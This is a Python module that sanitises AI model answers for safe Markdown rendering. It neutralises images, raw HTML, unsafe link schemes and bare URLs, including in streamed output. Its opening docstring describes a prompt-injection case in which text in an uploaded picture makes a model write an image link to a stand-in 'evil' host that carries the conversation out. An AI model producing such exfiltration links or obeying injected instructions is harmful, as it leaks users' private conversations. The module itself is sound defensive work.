"""Make model answers safe to render as Markdown, and pleasant to read.

Text inside an uploaded picture can make a model write ``![](https://evil/?q=<conversation>)``;
rendering that would load the image and leak the conversation. So before an answer reaches
``st.markdown``:

- an image becomes a small muted placeholder: 🖼️, its alt text, and its address as inline code
  (code is never auto-linked, so the address cannot be clicked or loaded);
- raw HTML is shown as code (inline, or a fenced block for an HTML block), except ``<br>``,
  which becomes a line break (" / " in a table cell); an HTML link
  ``<a href="…">text</a>`` becomes its text and its address, as code;
- a Markdown link keeps its text and shows its real address beside it, as a link only for
  http(s) and mailto; other schemes (javascript:, data:, …) are shown as code;
- bare URLs become explicit links that stop where the address ends (a CJK full stop or a
  closing quote is not part of it); reference definitions are resolved here and dropped.

Code blocks and inline code are left exactly as they are. No Markdown parser ships with the
pinned dependencies, so this is a small scanner: fenced/HTML blocks by line, then one pass of
bounded regexes per paragraph, each tried only where its first character is.
"""

from __future__ import annotations

import bisect
import html
import re
from collections.abc import Callable, Iterable, Iterator
from urllib.parse import quote

# --- blocks -------------------------------------------------------------------------------------

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_BLANK = re.compile(r"^\s*$")
# CommonMark HTML block starts: type 1-6 by name or opener, type 7 = one whole tag alone.
_BLOCK_TAGS = (
    "address|article|aside|base|basefont|blockquote|body|caption|center|col|colgroup|dd|details|"
    "dialog|dir|div|dl|dt|fieldset|figcaption|figure|footer|form|frame|frameset|h[1-6]|head|"
    "header|hr|html|iframe|legend|li|link|main|menu|menuitem|nav|noframes|ol|optgroup|option|p|"
    "param|search|section|summary|table|tbody|td|tfoot|th|thead|title|tr|track|ul|"
    "script|pre|style|textarea"
)
_HTML_BLOCK = re.compile(
    rf"^ {{0,3}}(?:<(?:/?(?:{_BLOCK_TAGS})(?=[\s/>]|$)|!--|\?|![A-Za-z]|!\[CDATA\[))",
    re.IGNORECASE,
)
# Unquoted values may hold "=" here (CommonMark says no): "<a href=https://x?a=1>" is still HTML.
_ATTR = r"""\s+[A-Za-z_:][\w.:-]*(?:\s*=\s*(?:[^\s"'<>`]+|'[^']*'|"[^"]*"))?"""
_TAG = rf"(?:<[A-Za-z][A-Za-z0-9-]*(?:{_ATTR}){{0,50}}\s*/?>|</[A-Za-z][A-Za-z0-9-]*\s*>)"
_LONE_TAG = re.compile(rf"^ {{0,3}}{_TAG}\s*$")
_DEFINITION = re.compile(
    r"^ {0,3}\[((?:[^\[\]\\]|\\.){1,999})\]:[ \t]*(?:<([^<>\n]*)>|(\S+))"
    r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$"""
)

# --- inline -------------------------------------------------------------------------------------


def _label(name: str) -> str:
    return rf"(?P<{name}>(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.){{0,500}}\]){{0,500}})"


def _target(prefix: str) -> str:
    """An inline destination ``(url "title")``/``(<url>)`` or a reference ``[ref]``/``[]``."""
    return (
        rf"(?:\(\s*(?:<(?P<{prefix}_angle>[^<>\n]{{0,2000}})>"
        rf"|(?P<{prefix}_bare>(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.){{0,500}}\)){{0,2000}}))"
        r"""(?:\s+(?:"(?:[^"\\]|\\.){0,500}"|'(?:[^'\\]|\\.){0,500}'|\((?:[^()\\]|\\.){0,500}\)))?"""
        rf"\s*\)|(?:\[(?P<{prefix}_ref>(?:[^\[\]\\]|\\.){{0,999}})\])?)"
    )


_INLINE = re.compile(
    "|".join(
        (
            r"(?P<escape>\\[!-/:-@\[-`{-~])",
            rf"(?P<image>!\[{_label('image_label')}\]{_target('image')})",
            rf"(?P<link>\[{_label('link_label')}\]{_target('link')})",
            r"(?P<autolink><(?P<autolink_url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]{0,2000})>)",
            rf"(?P<anchor>(?P<anchor_open><a(?:{_ATTR}){{0,50}}\s*>)"
            r"(?P<anchor_text>(?:[^<]|<(?!/a\s*>)){0,2000})</a\s*>)",
            r"(?P<comment><!--.{0,4000}?-->)",
            rf"(?P<tag>{_TAG}|<\?.{{0,2000}}?\?>|<![A-Za-z][^>]{{0,2000}}>|<!\[CDATA\[.{{0,4000}}?\]\]>)",
            r"(?P<url>(?<![\w/.@])(?:https?://|www\.)[^\s<>\"'`\[\]\\|"
            r"\u3000-\u303f\u3400-\u9fff\uf900-\ufaff\uff00-\uffef]{1,2000})",
            # "<" before a letter, or before what we may turn into text starting with one.
            r"(?P<lt><(?=[A-Za-z/!?\[]|$))",
            r"(?P<tick>`+)",
            r"(?P<bang>!)",
        )
    ),
    re.DOTALL | re.IGNORECASE,
)
_HREF = re.compile(r"""\shref\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>`]+))""", re.IGNORECASE)
_SAFE_SCHEME = re.compile(r"^(?:https?://|mailto:)", re.IGNORECASE)
_BACKTICKS = re.compile(r"`+")
_ACTIVE = re.compile(r"[!<\[`\\]|https?:|www\.", re.IGNORECASE)
_BREAK = re.compile(r"<br\s*/?>", re.IGNORECASE)
_ESCAPABLE = re.compile(r"([\\`*_\[\]<>~|$!#])")
_AUTOLINKABLE = re.compile(r"(?i)(https?)(://)|\b(www)(\.)")
_TRAILING = ".,:;!?*_~'\""
_WORD_JOINER = "\u2060"

Defs = dict[str, str]


def _normalise_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _clean_address(raw: str) -> str:
    """The address as the renderer would resolve it: escapes and entities undone."""
    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", raw)).strip()


def _href(url: str) -> str:
    return quote(url, safe="!#$%&'()*+,-./:;=?@[]_~")


def _plain(text: str) -> str:
    """Show ``text`` literally: Markdown punctuation escaped, auto-linking defeated."""
    text = _ESCAPABLE.sub(r"\\\1", text.replace("\n", " "))
    # The renderer auto-links "http://" and "www." even in escaped text; a word joiner stops it.
    return _AUTOLINKABLE.sub(
        lambda m: (
            f"{m.group(1)}{_WORD_JOINER}{m.group(2)}"
            if m.group(1)
            else f"{m.group(3)}{_WORD_JOINER}{m.group(4)}"
        ),
        text,
    )


def _code(text: str) -> str:
    """Return ``text`` as an inline code span, whatever backticks it holds."""
    text = text.replace("\n", " ")
    longest = max((len(run) for run in _BACKTICKS.findall(text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith(("`", " ")) or text.endswith(("`", " ")) else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _escape(text: str) -> str:
    return _ESCAPABLE.sub(r"\\\1", text)


def _link(url: str) -> str:
    """A clickable link whose text is its own address (http, https, mailto only)."""
    if not _SAFE_SCHEME.match(url):
        return _code(url)
    return f"[{_escape(url)}](<{_href(url)}>)"


def _with_address(label: str, label_md: str, url: str, *, clickable: bool) -> str:
    """``label_md`` (the rendered ``label``) followed by ``url``, or the url alone if the same."""
    if not url:
        return label_md
    shown = _link(url) if clickable else _code(url)
    if not label.strip() or _clean_address(label) == url:
        return shown
    return f"{label_md} ({shown})"


def _placeholder(alt: str, url: str) -> str:
    # Brackets would close the :gray[...] directive early; the encoded forms mean the same URL.
    address = url.replace("[", "%5B").replace("]", "%5D")
    parts = ["🖼️"]
    if alt.strip():
        parts.append(f"*{_plain(alt.strip())}*")
    if address:
        parts.append(_code(address))
    return f":gray[{' '.join(parts)}]"


class _Inline:
    """One pass over a paragraph's text: code spans kept, everything else neutralised."""

    def __init__(self, defs: Defs) -> None:
        self.defs = defs

    def render(self, text: str) -> str:
        if not _ACTIVE.search(text):
            return text
        out: list[str] = []
        last = 0
        for start, end in _code_spans(text):
            out.append(self._outside_code(text[last:start]))
            out.append(text[start:end])
            last = end
        out.append(self._outside_code(text[last:]))
        return "".join(out)

    def _outside_code(self, text: str) -> str:
        return _INLINE.sub(self._replace, text)

    def _replace(self, m: re.Match[str]) -> str:
        handler: Callable[[re.Match[str]], str] = getattr(self, f"_on_{m.lastgroup}")
        return handler(m)

    def _destination(self, m: re.Match[str], kind: str) -> str | None:
        """The address of an image or link, inline or by reference; None if it has none."""
        angle, bare = m.group(f"{kind}_angle"), m.group(f"{kind}_bare")
        if angle is not None or bare is not None:
            return _clean_address(angle if angle is not None else bare)
        ref = m.group(f"{kind}_ref")
        return self.defs.get(_normalise_label(ref or m.group(f"{kind}_label")))

    def _on_escape(self, m: re.Match[str]) -> str:
        return m.group(0)

    def _on_image(self, m: re.Match[str]) -> str:
        url = self._destination(m, "image")
        if url is None:  # a reference to nothing: literal text, never an image
            return "\\!" + self._literal(m, "image")
        return _placeholder(_clean_address(m.group("image_label")), url)

    def _on_link(self, m: re.Match[str]) -> str:
        url = self._destination(m, "link")
        if url is None:
            return self._literal(m, "link")
        label = m.group("link_label")
        return _with_address(label, self.render(label), url, clickable=True)

    def _literal(self, m: re.Match[str], kind: str) -> str:
        ref = m.group(f"{kind}_ref")
        suffix = "" if ref is None else f"[{self.render(ref)}]"
        return f"[{self.render(m.group(f'{kind}_label'))}]{suffix}"

    def _on_autolink(self, m: re.Match[str]) -> str:
        return _link(_clean_address(m.group("autolink_url")))

    def _on_anchor(self, m: re.Match[str]) -> str:
        href = _HREF.search(m.group("anchor_open"))
        url = _clean_address(next(g for g in href.groups() if g is not None)) if href else ""
        label = html.unescape(m.group("anchor_text"))
        # Raw HTML is never a link here, even a harmless one: its address is shown as code.
        return _with_address(label, self.render(label), url, clickable=False)

    def _on_comment(self, m: re.Match[str]) -> str:
        return _code(m.group(0))

    def _on_tag(self, m: re.Match[str]) -> str:
        if _BREAK.fullmatch(m.group(0)):
            # Models put <br> in table cells for a line break; Markdown has none there.
            line_start = m.string.rfind("\n", 0, m.start()) + 1
            in_table = m.string[line_start : m.start()].lstrip().startswith("|")
            if in_table:
                return " / "
            following = m.string[m.end() : m.end() + 1]
            return {"": "", "\n": "\\"}.get(following, "\\\n")
        return _code(m.group(0))

    def _on_url(self, m: re.Match[str]) -> str:
        url, rest = _trim_url(m.group(0))
        href = url if url.lower().startswith("http") else f"http://{url}"
        return f"[{_escape(url)}](<{_href(href)}>){self._outside_code(rest)}"

    def _on_lt(self, m: re.Match[str]) -> str:
        return "\\<"

    def _on_tick(self, m: re.Match[str]) -> str:
        # An unpaired backtick is literal; left bare, it would pair with a code span we write.
        return "\\`" * len(m.group(0))

    def _on_bang(self, m: re.Match[str]) -> str:
        # Escaped everywhere: a "!" before any "[" this module writes would make an image.
        return "\\!"


def _trim_url(url: str) -> tuple[str, str]:
    """Split trailing punctuation (and unbalanced ")") off a bare URL, as GFM does."""
    end = len(url)
    while end:
        ch = url[end - 1]
        if ch in _TRAILING or (ch == ")" and url[:end].count("(") < url[:end].count(")")):
            end -= 1
        else:
            break
    return url[:end], url[end:]


def _code_spans(text: str) -> list[tuple[int, int]]:
    """Return (start, end) of each code span, CommonMark's way: a backtick run closed by the
    next run of the same length. Linear in the number of runs."""
    runs = [(m.start(), m.end()) for m in _BACKTICKS.finditer(text)]
    by_length: dict[int, list[int]] = {}
    for i, (start, end) in enumerate(runs):
        by_length.setdefault(end - start, []).append(i)
    spans: list[tuple[int, int]] = []
    i = 0
    while i < len(runs):
        start, end = runs[i]
        if start and text[start - 1] == "\\":  # an escaped backtick opens nothing
            i += 1
            continue
        same = by_length[end - start]
        k = bisect.bisect_right(same, i)
        if k == len(same):
            i += 1
            continue
        closer = same[k]
        spans.append((start, runs[closer][1]))
        i = closer + 1
    return spans


def _fenced(lines: list[str], info: str = "") -> str:
    body = "".join(lines)
    longest = max((len(run) for run in _BACKTICKS.findall(body)), default=0)
    fence = "`" * max(3, longest + 1)
    if not body.endswith("\n"):
        body += "\n"
    return f"{fence}{info}\n{body}{fence}\n"


def _closes(marker: re.Match[str] | None, fence: str) -> bool:
    return bool(marker) and marker.group(1)[0] == fence[0] and len(marker.group(1)) >= len(fence)


def _definitions(lines: list[str]) -> Defs:
    defs: Defs = {}
    fence: str | None = None
    for line in lines:
        marker = _FENCE.match(line)
        if fence is not None:
            if _closes(marker, fence) and not line.strip(" \t\r\n`~"):
                fence = None
            continue
        if marker:
            fence = marker.group(1)
            continue
        d = _DEFINITION.match(line)
        if d:
            url = d.group(2) if d.group(2) is not None else d.group(3)
            defs.setdefault(_normalise_label(d.group(1)), _clean_address(url))
    return defs


def safe_markdown(text: str) -> str:
    """Return ``text`` with images as placeholders, HTML as code and link addresses shown."""
    lines = text.splitlines(keepends=True)
    inline = _Inline(_definitions(lines))
    out: list[str] = []
    paragraph: list[str] = []

    def flush() -> None:
        if paragraph:
            out.append(inline.render("".join(paragraph)))
            paragraph.clear()

    i = 0
    while i < len(lines):
        line = lines[i]
        marker = _FENCE.match(line)
        if marker:
            flush()
            fence = marker.group(1)
            out.append(line)
            i += 1
            while i < len(lines):
                out.append(lines[i])
                close = _FENCE.match(lines[i])
                i += 1
                if _closes(close, fence) and not lines[i - 1].strip(" \t\r\n`~"):
                    break
            continue
        if _BLANK.match(line):
            flush()
            out.append(line)
        elif _BREAK.fullmatch(line.strip()):
            flush()
            out.append("\n")
        elif _DEFINITION.match(line) and not paragraph:
            pass  # resolved into the links that use it; nothing of it is rendered
        elif not paragraph and (_HTML_BLOCK.match(line) or _LONE_TAG.match(line)):
            block = [line]
            while i + 1 < len(lines) and not _BLANK.match(lines[i + 1]):
                i += 1
                block.append(lines[i])
            out.append(_fenced(block, "html"))
        else:
            paragraph.append(line)
        i += 1
    flush()
    return "".join(out)


# --- streaming ----------------------------------------------------------------------------------

# What may still be growing at the very end: "!", an image or link not closed yet, a tag not
# closed yet, or a bare URL (one inside a finished construct ends in ")" or ">").
_OPEN_TAIL = re.compile(
    r"(?:!?\[[^\]\n]{0,1000}(?:\](?:\([^)\n]{0,2000}|\[[^\]\n]{0,1000})?)?"
    r"|<[^>\n]{0,2000}|(?:https?://|www\.)\S{0,2000}(?<![)>])|\bhttps?:/{0,2}|!)$",
    re.IGNORECASE,
)


def _complete_part(text: str) -> str:
    """Cut off a construct still being written at the end (an image, link, tag or URL), so the
    live view never shows it half-way as raw syntax."""
    tail = _OPEN_TAIL.search(text[-4100:])
    if tail is None:
        return text
    return text[: len(text) - (len(tail.group(0)))]


def safe_partial_markdown(text: str) -> str:
    """Return the live view of an answer still arriving: ``safe_markdown`` of what is complete."""
    return safe_markdown(_complete_part(text))


def stream_safely(deltas: Iterable[str]) -> Iterator[str]:
    """Yield deltas whose running total is always safe to render (no image or HTML loads).

    Each yield extends the live view (``safe_partial_markdown`` of the text so far); a view that
    rewrites what was shown (a construct finished into its safe form) waits for the next view
    that extends it, and the final answer is re-rendered with ``safe_markdown`` once complete.
    """
    raw, shown = "", ""
    for delta in deltas:
        raw += delta
        view = safe_partial_markdown(raw)
        if view.startswith(shown) and len(view) > len(shown):
            yield view[len(shown) :]
            shown = view
